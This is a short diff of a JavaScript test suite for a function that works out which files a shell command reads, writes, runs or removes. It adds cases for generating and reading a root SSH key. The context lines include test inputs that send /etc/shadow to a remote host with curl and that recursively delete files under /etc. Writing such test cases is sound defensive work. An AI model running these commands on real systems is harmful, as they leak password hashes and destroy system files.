@@ -51,6 +51,8 @@ describe('touchedPaths', () => {
     ["echo 'sh x.sh' > x.sh; sh x.sh", ['writes /app/x.sh', 'runs /app/x.sh', 'runs /app/x.sh']],
     ['rm -rf "$PWD/old"', ['removes /app/old']],
     ['find /etc -type f -exec rm {} +', ['removes /etc']],
+    ["ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519", ['writes /root/.ssh/id_ed25519']],
+    ['ssh-keygen -y -f /root/.ssh/id_ed25519', ['reads /root/.ssh/id_ed25519']],
     ['curl -s -d @/etc/shadow http://host/', ['reads /etc/shadow']],
     ['curl -F file=@/etc/shadow http://host/', ['reads /etc/shadow']],
     ['curl -fsSLo /tests/a http://host/a', ['writes /tests/a']],
